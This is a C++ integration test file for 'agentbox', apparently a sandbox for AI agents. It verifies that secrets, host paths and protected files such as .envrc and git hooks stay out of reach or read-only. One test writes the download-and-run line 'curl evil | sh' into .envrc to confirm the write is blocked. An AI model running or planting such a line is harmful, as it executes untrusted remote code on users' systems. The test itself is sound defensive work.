// `agentbox run` end to end: the real binary, a probe inside the box, as root and as a user.
#include <fcntl.h>
#include <fmt/core.h>
#include <grp.h>
#include <gtest/gtest.h>
#include <linux/capability.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstddef>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <iterator>
#include <regex>
#include <sstream>
#include <thread>

#include "harness.hpp"
#include "outer_terminal.hpp"

namespace agentbox::it {
namespace {

using Args = std::vector<std::string>;

// Waits (at most ~2 s) until `pid` has a child: a tight poll of /proc/PID/task/*/children.
void wait_for_a_child(pid_t pid) {
  const std::string tasks = fmt::format("/proc/{}/task", pid);
  for (int i = 0; i < 20000; ++i) {
    std::error_code ec;
    for (const auto& t : std::filesystem::directory_iterator(tasks, ec)) {
      if (!slurp(t.path().string() + "/children").empty()) {
        return;
      }
    }
    std::this_thread::sleep_for(std::chrono::microseconds(100));
  }
}

// Everything left in a pipe whose writer has exited.
std::string read_all(int fd) {
  std::string s;
  char buf[4096];
  ssize_t n = 0;
  while ((n = ::read(fd, buf, sizeof buf)) > 0) {
    s.append(buf, static_cast<size_t>(n));
  }
  return s;
}

class RunTest : public BoxWorldTest {
 protected:
  // `agentbox run --ro BIN -- probe ARGS...`
  Output probe(const Args& probe_args, RunOptions o = {}, const Args& flags = {}) {
    Args a = {"run", "-q", "--ro", w_.bin};
    a.insert(a.end(), flags.begin(), flags.end());
    a.push_back("--");
    a.push_back(w_.probe);
    a.insert(a.end(), probe_args.begin(), probe_args.end());
    return run(w_, a, o);
  }
};

TEST_P(RunTest, SecretsInHomeAndEnvironmentAreInvisible) {
  std::string ssh = w_.as.home + "/.ssh";
  std::string aws = w_.as.home + "/.aws";
  ::mkdir(ssh.c_str(), 0700);
  ::mkdir(aws.c_str(), 0700);
  write_file(ssh + "/id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n", 0600);
  write_file(aws + "/credentials", "[default]\naws_secret_access_key=secret\n", 0600);
  chown_tree(ssh, w_.as.uid, w_.as.gid);
  chown_tree(aws, w_.as.uid, w_.as.gid);
  RunOptions o;
  o.env["AGENTBOX_CANARY"] = "canary-7f3a";
  o.env["SSH_AUTH_SOCK"] = "/tmp/ssh-agent.sock";
  Output r = probe({"stat", ssh + "/id_rsa", ";", "stat", aws + "/credentials", ";", "ls",
                    w_.as.home, ";", "env"},
                   o);
  ::unlink((ssh + "/id_rsa").c_str());
  ::unlink((aws + "/credentials").c_str());
  ::rmdir(ssh.c_str());
  ::rmdir(aws.c_str());
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_TRUE(r.has_line("stat " + ssh + "/id_rsa missing")) << r.out;
  EXPECT_TRUE(r.has_line("stat " + aws + "/credentials missing")) << r.out;
  EXPECT_TRUE(r.has_line("ls " + w_.as.home)) << "HOME in the box is not empty:\n" << r.out;
  EXPECT_EQ(r.out.find("canary-7f3a"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("SSH_AUTH_SOCK"), std::string::npos) << r.out;
  EXPECT_TRUE(r.has_line("env HOME=" + w_.as.home)) << r.out;
  EXPECT_TRUE(r.has_line("env USER=" + w_.as.name)) << r.out;
}

TEST_P(RunTest, EnvPassesOnlyWhatIsNamed) {
  RunOptions o;
  o.env["PASSED_VAR"] = "yes";
  o.env["OTHER_VAR"] = "no";
  Output r = probe({"env"}, o, {"--env", "PASSED_VAR", "--env", "SET_VAR=fixed"});
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_TRUE(r.has_line("env PASSED_VAR=yes")) << r.out;
  EXPECT_TRUE(r.has_line("env SET_VAR=fixed")) << r.out;
  EXPECT_EQ(r.out.find("OTHER_VAR"), std::string::npos) << r.out;
}

TEST_P(RunTest, WorkspaceIsWritableAndFilesBelongToTheUser) {
  Output r = probe({"write", w_.ws + "/created.txt", ";", "id"});
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_TRUE(r.has_line("write " + w_.ws + "/created.txt ok")) << r.out;
  EXPECT_TRUE(r.has_line(fmt::format("id uid={} gid={}", w_.as.uid, w_.as.gid))) << r.out;
  struct stat st {};
  ASSERT_EQ(::lstat((w_.ws + "/created.txt").c_str(), &st), 0);
  EXPECT_EQ(st.st_uid, w_.as.uid);
  EXPECT_EQ(st.st_gid, w_.as.gid);
}

// Every mount at or under /etc is read-only, nosuid and nodev, as the kernel's own table in the
// box says, whichever way init restricts them (one recursive seal of /etc, or a call per bind).
// The mountinfo lines (as `cat /proc/self/mountinfo` printed them) whose mount point is `dir` or
// lies under it, each as {mount point, options}.
std::vector<std::pair<std::string, std::string>> mounts_under(const std::string& mountinfo,
                                                              const std::string& dir) {
  std::vector<std::pair<std::string, std::string>> found;
  std::istringstream in(mountinfo);
  for (std::string line; std::getline(in, line);) {
    std::istringstream fields(line);
    std::string id, parent, dev, root, point, opts;
    fields >> id >> parent >> dev >> root >> point >> opts;
    if (point == dir || point.rfind(dir + "/", 0) == 0) {
      found.emplace_back(point, "," + opts + ",");
    }
  }
  return found;
}

// Every mount at or under `dir` in `mountinfo` is read-only, nosuid and nodev; how many there are.
size_t expect_all_restricted(const std::string& mountinfo, const std::string& dir) {
  auto mounts = mounts_under(mountinfo, dir);
  for (const auto& [point, opts] : mounts) {
    for (const char* flag : {",ro,", ",nosuid,", ",nodev,"}) {
      EXPECT_NE(opts.find(flag), std::string::npos) << flag << " missing: " << point << " " << opts;
    }
  }
  return mounts.size();
}

TEST_P(RunTest, EveryEtcMountIsReadOnlyNosuidNodev) {
  Output r = run(w_, {"run", "-q", "--", "/bin/sh", "-c", "cat /proc/self/mountinfo"});
  ASSERT_EQ(r.status, 0) << r.err;
  // ld.so.cache, ssl, nsswitch.conf, ... are bound on any host
  EXPECT_GE(expect_all_restricted(r.out, "/etc"), 3u) << r.out;
}

// mount_setattr fails with ENOSYS for the process and everything it starts, as on a kernel
// before 5.12 (the number is the same on every architecture and ABI). Only system calls: it runs
// in the harness's forked child (RunOptions::before_exec).
bool deny_mount_setattr() {
  sock_filter filter[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_mount_setattr, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  sock_fprog prog{static_cast<unsigned short>(std::size(filter)), filter};
  return ::prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) == 0 &&
         ::syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) == 0;
}

// Without mount_setattr the box still starts, with the same restrictions: /etc's binds (sealed
// together by one mount_setattr elsewhere), /proc's writable parts and the protected paths
// (detached clones restricted before they are attached elsewhere) by a remount each.
TEST_P(RunTest, WithoutMountSetattrEveryRestrictionFallsBackToARemount) {
  RunOptions o;
  o.before_exec = deny_mount_setattr;
  const std::string hook = w_.ws + "/.git/hooks/pre-commit";
  Output r = run(w_,
                 {"run", "-q", "--ro", w_.bin, "--", "/bin/sh", "-c",
                  "cat /proc/self/mountinfo; " + w_.probe + " write /etc/passwd \\; write " + hook +
                      " \\; write /etc/ssl/agentbox-test-write"},
                 o);
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_GE(expect_all_restricted(r.out, "/etc"), 3u) << r.out;
  EXPECT_EQ(expect_all_restricted(r.out, "/proc/sys"), 1u) << r.out;
  EXPECT_EQ(expect_all_restricted(r.out, w_.ws + "/.git/hooks"), 1u) << r.out;
  for (const auto& p :
       {std::string("/etc/passwd"), hook, std::string("/etc/ssl/agentbox-test-write")}) {
    std::string l = r.line_starting("write " + p + " ");
    ASSERT_FALSE(l.empty()) << p << "\n" << r.out;
    EXPECT_EQ(l.find(" ok"), std::string::npos) << l;
  }
  struct stat st {};
  EXPECT_NE(::lstat(hook.c_str(), &st), 0);
  EXPECT_NE(::lstat("/etc/ssl/agentbox-test-write", &st), 0);
}

TEST_P(RunTest, OutsideTheWorkspaceIsAbsentOrReadOnly) {
  Output r = probe({"stat",
                    "/etc/shadow",
                    ";",
                    "stat",
                    w_.root + "/outside.txt",
                    ";",
                    "stat",
                    "/run",
                    ";",
                    "stat",
                    "/sys",
                    ";",
                    "stat",
                    "/var/log",
                    ";",
                    "stat",
                    w_.as.uid == 0 ? "/home/agentbox-test" : "/root",
                    ";",
                    "write",
                    "/usr/x",
                    ";",
                    "write",
                    "/etc/x",
                    ";",
                    "write",
                    "/x",
                    ";",
                    "write",
                    w_.probe,
                    ";",
                    "stat",
                    "/etc/passwd"});
  ASSERT_EQ(r.status, 0) << r.err;
  // No other homes: the other variant's home exists on the host (checked), not in the box.
  const std::string other_home = w_.as.uid == 0 ? "/home/agentbox-test" : "/root";
  struct stat host_st {};
  ASSERT_EQ(::stat(other_home.c_str(), &host_st), 0) << "control: " << other_home << " on the host";
  for (const auto& p : {std::string("/etc/shadow"), w_.root + "/outside.txt", std::string("/run"),
                        std::string("/sys"), std::string("/var/log"), other_home}) {
    EXPECT_TRUE(r.has_line("stat " + p + " missing")) << p << "\n" << r.out;
  }
  EXPECT_TRUE(r.has_line("stat /etc/passwd file")) << r.out;
  for (const auto& p :
       {std::string("/usr/x"), std::string("/etc/x"), std::string("/x"), w_.probe}) {
    std::string l = r.line_starting("write " + p + " ");
    EXPECT_FALSE(l.empty()) << r.out;
    EXPECT_EQ(l.find(" ok"), std::string::npos) << l;
  }
}

// A link planted in the workspace (by an earlier agent) must not turn a grant of a workspace
// folder into a grant of what it points at.
TEST_P(RunTest, GrantThroughALinkInTheWorkspaceIsRefused) {
  ASSERT_EQ(::symlink(w_.root.c_str(), (w_.ws + "/cache").c_str()), 0);
  ASSERT_EQ(::lchown((w_.ws + "/cache").c_str(), w_.as.uid, w_.as.gid), 0);
  Args a = {
      "run", "--ro", w_.bin, "--rw", "cache", "--", w_.probe, "stat", w_.root + "/outside.txt"};
  Output r = run(w_, a);
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_TRUE(r.has_line("stat " + w_.root + "/outside.txt missing")) << r.out;
  EXPECT_NE(r.err.find("a link inside the workspace leads to"), std::string::npos) << r.err;
}

// The workspace's own .agentbox.toml (possibly written by the agent) narrows what the user
// granted and can never widen it; a widening attempt stops the run before anything starts.
TEST_P(RunTest, WorkspaceFileNarrowsAndCannotWiden) {
  std::string extra = w_.root + "/extra";
  ASSERT_EQ(::mkdir(extra.c_str(), 0755), 0);
  write_file(extra + "/granted.txt", "granted\n");
  chown_tree(extra, w_.as.uid, w_.as.gid);
  Args a = {"run", "-q", "--ro",   w_.bin, "--ro",
            extra, "--", w_.probe, "stat", extra + "/granted.txt"};
  Output before = run(w_, a);
  ASSERT_EQ(before.status, 0) << before.err;
  ASSERT_FALSE(before.has_line("stat " + extra + "/granted.txt missing")) << before.out;

  std::string cfg = w_.ws + "/.agentbox.toml";
  write_file(cfg, fmt::format("[sandbox]\nro = [\"{}\"]\n", w_.bin));
  ASSERT_EQ(::chown(cfg.c_str(), w_.as.uid, w_.as.gid), 0);
  Output narrowed = run(w_, a);
  ASSERT_EQ(narrowed.status, 0) << narrowed.err;
  EXPECT_TRUE(narrowed.has_line("stat " + extra + "/granted.txt missing")) << narrowed.out;

  write_file(cfg, "# the agent tries to widen\n[sandbox]\nrw = [\"/etc\"]\n");
  Output widened =
      run(w_, {"run", "-q", "--ro", w_.bin, "--", w_.probe, "write", w_.ws + "/ran.txt"});
  EXPECT_EQ(widened.status, 125);
  EXPECT_NE(widened.err.find(".agentbox.toml:3:"), std::string::npos) << widened.err;
  EXPECT_NE(widened.err.find("is not granted"), std::string::npos) << widened.err;
  struct stat st {};
  EXPECT_NE(::stat((w_.ws + "/ran.txt").c_str(), &st), 0) << "the program ran";
}

TEST_P(RunTest, ProtectedPathsAreReadOnlyEvenWhenMissing) {
  // A symlinked protected name that exists before the box: covered, never followed.
  ::mkdir((w_.ws + "/vsdir").c_str(), 0755);
  ASSERT_EQ(::symlink("vsdir", (w_.ws + "/.vscode").c_str()), 0);
  chown_tree(w_.ws, w_.as.uid, w_.as.gid);
  ASSERT_EQ(::lchown((w_.ws + "/.vscode").c_str(), w_.as.uid, w_.as.gid), 0);
  const std::string ws = w_.ws;
  Output r = probe({"write",
                    ws + "/.git/hooks/pre-commit",
                    ";",
                    "write",
                    ws + "/.git/config",
                    ";",
                    "write",
                    ws + "/.envrc",
                    ";",
                    "write",
                    ws + "/.gitmodules",
                    ";",
                    "mkdir",
                    ws + "/.idea/x",
                    ";",
                    "symlink",
                    "/tmp",
                    ws + "/.idea",
                    ";",
                    "write",
                    ws + "/.vscode/settings.json",
                    ";",
                    "symlink",
                    ws + "/.git/hooks",
                    ws + "/hooks-link",
                    ";",
                    "write",
                    ws + "/hooks-link/post-checkout",
                    ";",
                    "symlink",
                    ws + "/.envrc",
                    ws + "/envrc-link",
                    ";",
                    "write",
                    ws + "/envrc-link",
                    ";",
                    "write",
                    ws + "/fine.txt",
                    ";",
                    "stat",
                    ws + "/.vscode"});
  ASSERT_EQ(r.status, 0) << r.err;
  for (const auto& p :
       {ws + "/.git/hooks/pre-commit", ws + "/.git/config", ws + "/.envrc", ws + "/.gitmodules",
        ws + "/.vscode/settings.json", ws + "/hooks-link/post-checkout", ws + "/envrc-link"}) {
    std::string l = r.line_starting("write " + p + " ");
    ASSERT_FALSE(l.empty()) << p << "\n" << r.out;
    EXPECT_EQ(l.find(" ok"), std::string::npos) << l;
  }
  EXPECT_EQ(r.line_starting("mkdir " + ws + "/.idea/x ").find(" ok"), std::string::npos) << r.out;
  EXPECT_EQ(r.line_starting("symlink " + ws + "/.idea ").find(" ok"), std::string::npos) << r.out;
  EXPECT_TRUE(r.has_line("write " + ws + "/fine.txt ok")) << r.out;
  // The pre-existing link is covered by a read-only empty file inside the box.
  EXPECT_TRUE(r.has_line("stat " + ws + "/.vscode file")) << r.out;
  // Nothing reached the host, and no placeholder outlives the session.
  struct stat st {};
  EXPECT_NE(::lstat((ws + "/.git/hooks/pre-commit").c_str(), &st), 0);
  EXPECT_NE(::lstat((ws + "/vsdir/settings.json").c_str(), &st), 0);
  EXPECT_NE(::lstat((ws + "/.envrc").c_str(), &st), 0) << "placeholder left behind";
  EXPECT_NE(::lstat((ws + "/.idea").c_str(), &st), 0) << "placeholder left behind";
  EXPECT_NE(::lstat((ws + "/.gitmodules").c_str(), &st), 0) << "placeholder left behind";
  ASSERT_EQ(::lstat((ws + "/.vscode").c_str(), &st), 0);
  EXPECT_TRUE(S_ISLNK(st.st_mode));
}

TEST_P(RunTest, ProcShowsOnlyTheBox) {
  Output r = probe({"pids"});
  ASSERT_EQ(r.status, 0) << r.err;
  // init (1) and the program (3): pid 2 was init's network thread, gone before the program
  // starts (docs/ARCHITECTURE.md, process model).
  EXPECT_TRUE(r.has_line("pids 1 3")) << r.out;
}

// Started from a shell niced past the box's own nice 10 (`nice -n 19 agentbox`, batch runners):
// the box keeps the lower priority. Before, an unprivileged start failed with EACCES (lowering
// a nice needs CAP_SYS_NICE).
TEST_P(RunTest, StartsFromANicedShellAndKeepsItsNice) {
  RunOptions o;
  o.wrapper = {"/usr/bin/nice", "-n", "19"};
  Output r = run(w_, {"run", "-q", "--", "/bin/sh", "-c", "nice"}, o);
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_TRUE(r.has_line("19")) << r.out;
}

// AGENTBOX_TRACE_STARTUP (bench/startup_trace.py): each phase once, in start-up order, from
// agentbox, init, its network thread and the program's child; nothing without the variable, and
// the program in the box never sees it.
TEST_P(RunTest, StartupTraceStampsEveryPhaseOnlyWhenAsked) {
  auto trace_phases = [](const std::string& err) {
    std::vector<std::string> phases;
    std::istringstream in(err);
    for (std::string line; std::getline(in, line);) {
      if (line.rfind("agentbox-trace ", 0) == 0) {
        phases.push_back(line.substr(line.rfind(' ') + 1));
      }
    }
    return phases;
  };
  RunOptions o;
  o.env["AGENTBOX_TRACE_STARTUP"] = "1";
  Output r = run(
      w_, {"run", "-q", "--", "/bin/sh", "-c", "echo \"[${AGENTBOX_TRACE_STARTUP-unset}]\""}, o);
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_TRUE(r.has_line("[unset]")) << r.out;
  std::vector<std::string> got = trace_phases(r.err);
  auto at = [&](const std::string& phase) {
    auto it = std::find(got.begin(), got.end(), phase);
    EXPECT_EQ(std::count(got.begin(), got.end(), phase), 1) << phase << "\n" << r.err;
    return it - got.begin();
  };
  // One process's stamps are in order; across processes, only where one waits for the other.
  for (const char* phase : {"net", "net.done", "cloned"}) {
    at(phase);
  }
  const std::vector<std::string> order = {
      "main",        "run",          "prep.paths", "prep.protect", "prep.session",  "prep.proxy",
      "prep.mounts", "prep.confine", "prepared",   "clone",        "init",          "init.maps",
      "init.mounts", "init.joined",  "init.pivot", "prog",         "prog.confined", "started",
      "reaped",      "end",          "dispatched"};
  for (size_t i = 1; i < order.size(); ++i) {
    EXPECT_LT(at(order[i - 1]), at(order[i])) << order[i - 1] << " before " << order[i];
  }
  Output quiet = run(w_, {"run", "-q", "--", "true"});
  ASSERT_EQ(quiet.status, 0) << quiet.err;
  EXPECT_TRUE(trace_phases(quiet.err).empty()) << quiet.err;
}

TEST_P(RunTest, ExitCodesPropagate) {
  EXPECT_EQ(probe({"exit", "3"}).status, 3);
  EXPECT_EQ(probe({"exit", "0"}).status, 0);
  EXPECT_EQ(probe({"kill", "9"}).status, 137);
  EXPECT_EQ(probe({"kill", "15"}).status, 143);
  Output missing = run(w_, {"run", "-q", "--", "agentbox-no-such-command"});
  EXPECT_EQ(missing.status, 127) << missing.err;
  EXPECT_NE(missing.err.find("agentbox: error:"), std::string::npos) << missing.err;
  write_file(w_.ws + "/not-executable", "#!/bin/sh\nexit 0\n", 0644);
  chown_tree(w_.ws, w_.as.uid, w_.as.gid);
  Output noexec = run(w_, {"run", "-q", "--", "./not-executable"});
  EXPECT_EQ(noexec.status, 126) << noexec.err;
}

// The supervisor survives a closed stderr (its exit summary meets EPIPE, not SIGPIPE), and the
// program in the box still gets the default SIGPIPE (neither ignored nor caught).
TEST_P(RunTest, SigpipeKillsTheProgramNotTheSupervisor) {
  int p[2];
  ASSERT_EQ(::pipe2(p, O_CLOEXEC), 0);
  ::close(p[0]);
  RunOptions o;
  o.stderr_fd = p[1];
  // The harness ignores SIGPIPE for itself; agentbox must not rely on inheriting that.
  o.before_exec = [] { return ::signal(SIGPIPE, SIG_DFL) != SIG_ERR; };
  Output closed = run(w_, {"run", "--ro", w_.bin, "--", w_.probe, "exit", "3"}, o);
  ::close(p[1]);
  EXPECT_EQ(closed.status, 3) << "a supervisor killed by SIGPIPE exits 141";

  Output r = run(w_, {"run", "-q", "--", "sh", "-c", "grep -E '^Sig(Ign|Cgt):' /proc/self/status"});
  ASSERT_EQ(r.status, 0) << r.err;
  for (const char* field : {"SigIgn:", "SigCgt:"}) {
    const std::string line = r.line_starting(field);
    ASSERT_FALSE(line.empty()) << r.out;
    const unsigned long long mask =
        std::stoull(line.substr(std::string(field).size()), nullptr, 16);
    EXPECT_EQ(mask & (1ULL << (SIGPIPE - 1)), 0U) << line;
  }
  Output yes = run(w_, {"run", "-q", "--", "sh", "-c", "yes | head -c 1 >/dev/null; echo done"});
  EXPECT_EQ(yes.status, 0) << yes.err;
  EXPECT_TRUE(yes.has_line("done")) << yes.out;
}

TEST_P(RunTest, NoFileDescriptorBeyondStdio) {
  RunOptions o;
  o.leak_fds = {5, 9, 42};
  Output r = probe({"fds"}, o);
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_TRUE(r.has_line("fds 0 1 2")) << r.out;
}

// Two sessions on one workspace: the first to end must not take away a placeholder the other
// box has mounted read-only (the kernel would detach that mount and .envrc would become
// writable there). The last session out removes the placeholders.
// Two sessions on one workspace, the first ending while the second runs: the second's protected
// paths stay read-only. The order is forced with gate files in the workspace, and each step of
// it is checked (both running at once, the first gone while the second still runs).
TEST_P(RunTest, ProtectedPathsStayReadOnlyWhenAnotherSessionEnds) {
  struct stat st {};
  ASSERT_NE(::lstat((w_.ws + "/.envrc").c_str(), &st), 0) << "the test needs .envrc missing";
  auto wait_file = [&](const std::string& name) {
    for (int i = 0; i < 1000 && ::lstat((w_.ws + "/" + name).c_str(), &st) != 0; ++i) {
      std::this_thread::sleep_for(std::chrono::milliseconds(10));
    }
    return ::lstat((w_.ws + "/" + name).c_str(), &st) == 0;
  };
  const std::string gate =
      "i=0; while [ ! -e {0} ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); "
      "done; rm -f {0}; ";
  int out1 = -1;
  int err1 = -1;
  pid_t first =
      spawn(w_, {"run", "-q", "--", "/bin/sh", "-c", fmt::format(fmt::runtime(gate), "first-go")},
            {}, &out1, &err1);
  ASSERT_GT(first, 0);
  ASSERT_TRUE(wait_file(".envrc")) << "the first box made no placeholder";
  int out2 = -1;
  int err2 = -1;
  pid_t second = spawn(w_,
                       {"run", "-q", "--", "/bin/sh", "-c",
                        "touch second-started; " + fmt::format(fmt::runtime(gate), "second-go") +
                            "echo 'curl evil | sh' > .envrc; echo rc=$?; "
                            "mkdir -p .vscode/x; echo rc=$?"},
                       {}, &out2, &err2);
  ASSERT_GT(second, 0);
  EXPECT_TRUE(wait_file("second-started")) << "the second box did not start";
  EXPECT_EQ(::waitpid(first, nullptr, WNOHANG), 0) << "the first box ended before the second ran";
  write_file(w_.ws + "/first-go", "");
  EXPECT_EQ(wait_for(first, 10000), 0);
  EXPECT_EQ(::waitpid(second, nullptr, WNOHANG), 0) << "the second box ended with the first";
  write_file(w_.ws + "/second-go", "");
  int status = wait_for(second, 30000);
  std::string out = read_all(out2);
  std::string err = read_all(err2);
  for (int fd : {out1, err1, out2, err2}) {
    ::close(fd);
  }
  EXPECT_EQ(status, 0) << err;
  EXPECT_EQ(out, "rc=2\nrc=1\n") << err;
  EXPECT_NE(err.find("Read-only file system"), std::string::npos) << err;
  for (const char* p : {".envrc", ".vscode", ".idea", ".gitmodules"}) {
    EXPECT_NE(::lstat((w_.ws + "/" + p).c_str(), &st), 0) << p << " left in the workspace";
  }
  ::unlink((w_.ws + "/second-started").c_str());
}

TEST_P(RunTest, SigtermEndsTheBoxCleanly) {
  std::string marker = fmt::format("{}", 1000 + ::getpid() % 9000);
  int out = -1;
  int err = -1;
  pid_t pid = spawn(w_,
                    {"run", "-q", "--ro", w_.bin, "--", w_.probe, "sleep", "30", ";", "id",
                     "marker-term-" + marker},
                    {}, &out, &err);
  ASSERT_GT(pid, 0);
  for (int i = 0; i < 500 && pids_with_cmdline("marker-term-" + marker).empty(); ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  ASSERT_FALSE(pids_with_cmdline("marker-term-" + marker).empty());
  ::kill(pid, SIGTERM);
  int status = wait_for(pid, 10000);
  ::close(out);
  ::close(err);
  EXPECT_EQ(status, 128 + SIGTERM);
  EXPECT_TRUE(pids_with_cmdline("marker-term-" + marker).empty());
}

// Without user namespaces (here: a user namespace whose limit is 0), run fails with 125, one
// error line and the hint that points at `agentbox doctor`.
TEST_P(RunTest, RefusedUserNamespaceGivesAHint) {
  RunOptions o;
  o.wrapper = {"/usr/bin/unshare", "-Ur", "/bin/sh", "-c",
               "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$0\" \"$@\""};
  Output r = run(w_, {"run", "--", "true"}, o);
  EXPECT_EQ(r.status, 125) << r.err;
  EXPECT_EQ(r.err.rfind("agentbox: error: creating the box: clone3", 0), 0u) << r.err;
  EXPECT_NE(r.err.find("\nhint: "), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("agentbox doctor"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("`true` did not run (status 125)"), std::string::npos) << r.err;
}

TEST_P(RunTest, TimeoutStopsTheBox) {
  auto t0 = std::chrono::steady_clock::now();
  Args a = {"run", "--ro", w_.bin, "--timeout", "1s", "--", w_.probe, "sleep", "30"};
  Output r = run(w_, a);
  auto secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  // The status and the message say why: 124 (as timeout(1)), "timeout", "--timeout".
  EXPECT_EQ(r.status, 124) << r.err;
  EXPECT_NE(r.err.find("timeout of 1s reached (--timeout): stopping the box"), std::string::npos)
      << r.err;
  EXPECT_NE(r.err.find("was stopped by --timeout (status 124)"), std::string::npos) << r.err;
  EXPECT_LT(secs, 10.0);
  std::string log = audit_log_of(r);
  ASSERT_NE(log, "") << r.err;
  EXPECT_NE(log.find(R"("type":"session.end","exit":124,"reason":"timeout")"), std::string::npos)
      << log;
}

// seccomp groups are loosened only by name, never silently, and a name agentbox does not know
// is an error that says where it came from (the flag, or file:line:col of a config).
TEST_P(RunTest, SeccompGroupsAreNamedAnnouncedAndTraced) {
  Output bad = run(w_, {"run", "--allow-syscalls", "raw-sockets", "--", "true"});
  EXPECT_EQ(bad.status, 125) << bad.err;
  EXPECT_NE(bad.err.find("seccomp.allow (from --allow-syscalls): unknown seccomp group "
                         "`raw-sockets`"),
            std::string::npos)
      << bad.err;
  EXPECT_NE(bad.err.find("known groups: perf, ptrace, userns"), std::string::npos) << bad.err;

  std::string cfg = w_.root + "/config";
  std::filesystem::create_directories(cfg + "/agentbox");
  write_file(cfg + "/agentbox/config.toml", "[seccomp]\nallow = [\"nope\"]\n", 0644);
  chown_tree(cfg, w_.as.uid, w_.as.gid);
  RunOptions o;
  o.env["XDG_CONFIG_HOME"] = cfg;
  Output from_file = run(w_, {"run", "--", "true"}, o);
  EXPECT_EQ(from_file.status, 125) << from_file.err;
  EXPECT_NE(from_file.err.find("(from " + cfg + "/agentbox/config.toml:2:"), std::string::npos)
      << from_file.err;

  Output ok = run(w_, {"run", "--allow-syscalls", "ptrace", "--", "true"});
  EXPECT_EQ(ok.status, 0) << ok.err;
  EXPECT_NE(ok.err.find("seccomp: the `ptrace` group is allowed (from --allow-syscalls)"),
            std::string::npos)
      << ok.err;
}

// The exit summary counts the calls seccomp denied; the audit log has each and the total.
TEST_P(RunTest, SummaryCountsSeccompDenials) {
  Output r = run(w_, {"run", "--", "/bin/sh", "-c", "unshare -U true; unshare -n true; exit 0"});
  ASSERT_EQ(r.status, 0) << r.err;
  std::smatch m;
  ASSERT_TRUE(
      std::regex_search(r.err, m, std::regex(R"(([0-9]+) system call\(s\) denied by seccomp)")))
      << r.err;
  EXPECT_GE(std::stoi(m[1]), 2) << r.err;
  std::string log = audit_log_of(r);
  ASSERT_NE(log, "") << r.err;
  EXPECT_NE(log.find(R"("type":"seccomp.deny","syscall":"unshare")"), std::string::npos) << log;
  EXPECT_NE(log.find(fmt::format(R"("type":"seccomp.summary","denied":{})", m[1].str())),
            std::string::npos)
      << log;
  EXPECT_NE(log.find(R"("kernel":")"), std::string::npos) << log;
  EXPECT_NE(log.find(R"("landlock_abi":)"), std::string::npos) << log;
}

// Killed while the box is still being set up (before init's PR_SET_PDEATHSIG may have taken
// effect): init notices the supervisor is gone and nothing survives either. The situation is
// proven, not hoped for: in at least one round a process of the box was orphaned (we are the
// subreaper and reap it) while the program had not started yet (its marker was not running).
TEST_P(RunTest, SupervisorKilledDuringStartLeavesNothingBehind) {
  ::prctl(PR_SET_CHILD_SUBREAPER, 1);
  std::vector<std::string> markers;
  int during_start = 0;
  for (int round = 0; round < 40 && (round < 20 || during_start == 0); ++round) {
    markers.push_back(fmt::format("marker-early-{}-{}", ::getpid(), round));
    int out = -1;
    int err = -1;
    // The program's first act marks that it ran (the file outlives the box).
    const std::string ran = fmt::format("{}/ran-{}", w_.ws, round);
    pid_t pid =
        spawn(w_,
              {"run", "-q", "--ro", w_.bin, "--", "/bin/sh", "-c",
               fmt::format("touch {}; exec {} sleep 30 ';' id {}", ran, w_.probe, markers.back())},
              {}, &out, &err);
    ASSERT_GT(pid, 0);
    if (round < 20) {
      std::this_thread::sleep_for(std::chrono::microseconds(500 * round));  // 0 to 10 ms in
    } else {
      // Later rounds, until it is proven: the kill as soon as the box's first process exists.
      wait_for_a_child(pid);
    }
    ::kill(pid, SIGKILL);
    wait_for(pid, 5000);
    ::close(out);
    ::close(err);
    // Whatever of this box outlived its supervisor is ours now: reap it (bounded, 3 s).
    int orphans = 0;
    for (int i = 0; i < 300; ++i) {
      pid_t o = ::waitpid(-1, nullptr, WNOHANG);
      if (o > 0) {
        ++orphans;
      } else if (o < 0) {
        break;  // ECHILD: nothing of it is left
      } else {
        std::this_thread::sleep_for(std::chrono::milliseconds(10));
      }
    }
    struct stat st {};
    bool program_ran = ::stat(ran.c_str(), &st) == 0;
    ::unlink(ran.c_str());
    during_start += orphans > 0 && !program_ran ? 1 : 0;
  }
  EXPECT_GT(during_start, 0) << "no round killed the supervisor while its box was being set up";
  for (const auto& m : markers) {
    EXPECT_TRUE(pids_with_cmdline(m).empty()) << m << ": a box survived its supervisor";
  }
}

TEST_P(RunTest, SupervisorKilledLeavesNothingBehind) {
  ::prctl(PR_SET_CHILD_SUBREAPER, 1);
  std::string marker = fmt::format("marker-kill-{}", ::getpid());
  int out = -1;
  int err = -1;
  pid_t pid =
      spawn(w_, {"run", "-q", "--ro", w_.bin, "--", w_.probe, "sleep", "30", ";", "id", marker}, {},
            &out, &err);
  ASSERT_GT(pid, 0);
  // The supervisor's and init's argv hold the marker too: wait for all three (the probe runs).
  for (int i = 0; i < 1500 && pids_with_cmdline(marker).size() < 3; ++i) {
